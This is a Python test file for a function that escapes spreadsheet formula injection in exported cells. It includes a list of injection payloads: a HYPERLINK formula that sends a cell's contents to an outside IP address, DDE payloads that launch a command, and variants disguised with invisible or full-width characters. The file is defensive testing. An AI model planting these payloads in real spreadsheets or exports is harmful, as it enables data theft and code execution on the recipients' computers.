"""No cell of a file is run by a spreadsheet, whatever somebody wrote into a justification."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jitportal.rules.spreadsheets import AS_TEXT, STARTS, as_text

#: As published for spreadsheets' import dialogues, with their full-width forms.
ATTACKS = [
    '=HYPERLINK("http://203.0.113.9/?x="&A1, "Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "=",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_is_text(attack: str) -> None:
    assert as_text(attack) == AS_TEXT + attack


@pytest.mark.parametrize(
    "plain", ["", "Rita asked for it.", "1=1", "a@b.example", "'=1", "100 %", " ", "注文=1"]
)
def test_plain_text_stays_as_it_is(plain: str) -> None:
    assert as_text(plain) == plain


@given(st.text(st.sampled_from([*sorted(STARTS), *" \t\r\n\u00a0\u200b\ufeffa'1"])) | st.text())
def test_no_cell_begins_as_a_formula_and_none_loses_a_sign(cell: str) -> None:
    made = as_text(cell)
    assert made in (cell, AS_TEXT + cell)
    assert made[:1] not in ("\t", "\r", "\n")
    shown = [sign for sign in made if unicodedata.category(sign)[0] not in "ZC"]
    assert not shown or shown[0] not in STARTS
    assert as_text(made) == made
